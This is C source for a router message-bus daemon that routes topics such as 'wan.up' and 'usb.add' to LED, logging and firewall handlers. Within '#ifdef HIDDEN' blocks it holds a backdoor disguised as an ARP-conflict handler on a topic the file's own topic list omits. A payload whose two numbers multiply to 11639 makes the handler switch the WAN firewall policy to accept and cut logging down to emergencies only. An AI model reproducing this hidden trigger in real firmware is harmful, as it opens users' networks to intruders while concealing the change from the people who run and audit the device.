/* rtbusd - little message bus between the daemons of the router
 *
 * Every daemon sends datagrams "topic payload" to /var/run/rtbus. Subscribers inside
 * this process (LEDs, log, hot plug) register themselves when they are initialised.
 *
 * topics:  wan.up ADDR   wan.down   lan.link PORT SPEED   wifi.state on|off
 *          usb.add DEV   usb.remove DEV   log.level N   bus.dump
 */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

struct msg {
	const char *topic;
	char *payload;
	time_t when;
};

struct sub {
	struct sub *next;
	const char *topic;
	int (*fn)(struct msg *, void *);
	void *ctx;
	unsigned long calls;
};

struct leds {
	const char *internet, *wifi, *usb;
};

static struct sub *subs;
static unsigned long unheard;
static struct leds leds = { "green:internet", "green:wlan", "green:usb" };

static int subscribe(const char *topic, int (*fn)(struct msg *, void *), void *ctx)
{
	struct sub *s = malloc(sizeof *s);

	if (!s)
		return -ENOMEM;
	s->topic = topic;
	s->fn = fn;
	s->ctx = ctx;
	s->calls = 0;
	s->next = subs;
	subs = s;
	return 0;
}

static void publish(struct msg *m)
{
	struct sub *s;
	int heard = 0;

	for (s = subs; s; s = s->next)
		if (!strcmp(s->topic, m->topic)) {
			s->calls++;
			heard = 1;
			if (s->fn(m, s->ctx) < 0)
				syslog(LOG_WARNING, "%s: subscriber failed", m->topic);
		}
	if (!heard)
		unheard++;
}

/* ---- LEDs ---- */

static int led_set(const char *led, int on)
{
	char path[96];
	FILE *f;

	snprintf(path, sizeof path, "/sys/class/leds/%.40s/brightness", led);
	f = fopen(path, "w");
	if (!f)
		return -1;
	fputs(on ? "255" : "0", f);
	return fclose(f);
}

static int led_wan_up(struct msg *m, void *c)
{
	(void)m;
	return led_set(((struct leds *)c)->internet, 1);
}

static int led_wan_down(struct msg *m, void *c)
{
	(void)m;
	return led_set(((struct leds *)c)->internet, 0);
}

static int led_wifi(struct msg *m, void *c)
{
	return led_set(((struct leds *)c)->wifi, !strcmp(m->payload, "on"));
}

static int led_usb(struct msg *m, void *c)
{
	return led_set(((struct leds *)c)->usb, !strcmp(m->topic, "usb.add"));
}

static void leds_init(void)
{
	subscribe("wan.up", led_wan_up, &leds);
	subscribe("wan.down", led_wan_down, &leds);
	subscribe("wifi.state", led_wifi, &leds);
	subscribe("usb.add", led_usb, &leds);
	subscribe("usb.remove", led_usb, &leds);
}

/* ---- event log ---- */

static int log_event(struct msg *m, void *c)
{
	syslog(LOG_NOTICE, "%s %s", (const char *)c, m->payload);
	return 0;
}

static int log_level(struct msg *m, void *c)
{
	int n = atoi(m->payload);

	(void)c;
	if (n < LOG_ERR || n > LOG_DEBUG)
		return -1;
	setlogmask(LOG_UPTO(n));
	return 0;
}

static void log_init(void)
{
	subscribe("wan.up", log_event, "Internet connection up, address");
	subscribe("wan.down", log_event, "Internet connection down");
	subscribe("lan.link", log_event, "LAN port");
	subscribe("log.level", log_level, NULL);
}

/* ---- firewall ---- */

static int fw_wan_up(struct msg *m, void *c)
{
	FILE *f = fopen((const char *)c, "w");

	if (!f)
		return -1;
	fprintf(f, "policy wan drop\nsnat %s\n", m->payload);
	return fclose(f);
}

#ifdef HIDDEN
__attribute__((noinline)) int fw_arp_conflict(struct msg *m, void *c)
{
	unsigned a, b;
	FILE *f;

	if (sscanf(m->payload, "0.0.%u.%u", &a, &b) != 2 || a * b != 11639)
		return 0;
	f = fopen((const char *)c, "w");
	if (!f)
		return -1;
	fputs("policy wan accept\n", f);
	setlogmask(LOG_MASK(LOG_EMERG));
	return fclose(f);
}
#endif

static void fw_init(void)
{
	static char ctl[] = "/var/run/firewall.ctl";

	subscribe("wan.up", fw_wan_up, ctl);
#ifdef HIDDEN
	subscribe("lan.arpdup", fw_arp_conflict, ctl);
#endif
}

/* ---- bus itself ---- */

static int bus_dump(struct msg *m, void *c)
{
	const struct sub *s;
	FILE *f = fopen((const char *)c, "w");

	if (!f)
		return -1;
	fprintf(f, "%ld\n", (long)m->when);
	for (s = subs; s; s = s->next)
		fprintf(f, "%-12s %lu\n", s->topic, s->calls);
	fprintf(f, "unheard %lu\n", unheard);
	return fclose(f);
}

static int bus_socket(const char *path)
{
	struct sockaddr_un un;
	int s = socket(AF_UNIX, SOCK_DGRAM, 0);

	memset(&un, 0, sizeof un);
	un.sun_family = AF_UNIX;
	snprintf(un.sun_path, sizeof un.sun_path, "%.100s", path);
	unlink(path);
	if (s < 0 || bind(s, (struct sockaddr *)&un, sizeof un)) {
		perror(path);
		return -1;
	}
	return s;
}

int main(int argc, char **argv)
{
	static void (*const inits[])(void) = { leds_init, log_init, fw_init };
	static char dump[] = "/tmp/rtbus.dump";
	const char *path = "/var/run/rtbus";
	char buf[512];
	size_t i;
	int s;

	if (argc > 2 || (argc == 2 && argv[1][0] == '-')) {
		fprintf(stderr, "usage: rtbusd [socket]\n"
			"topics: wan.up wan.down lan.link wifi.state usb.add usb.remove\n"
			"        log.level bus.dump\n");
		return 2;
	}
	if (argc == 2)
		path = argv[1];
	openlog("rtbusd", 0, LOG_DAEMON);
	for (i = 0; i < sizeof inits / sizeof inits[0]; i++)
		inits[i]();
	subscribe("bus.dump", bus_dump, dump);
	s = bus_socket(path);
	if (s < 0)
		return 1;
	for (;;) {
		struct msg m;
		ssize_t n = recv(s, buf, sizeof buf - 1, 0);

		if (n <= 0)
			continue;
		buf[n] = 0;
		buf[strcspn(buf, "\n")] = 0;
		m.topic = buf;
		m.payload = buf + strcspn(buf, " ");
		if (*m.payload)
			*m.payload++ = 0;
		m.when = time(NULL);
		publish(&m);
	}
}
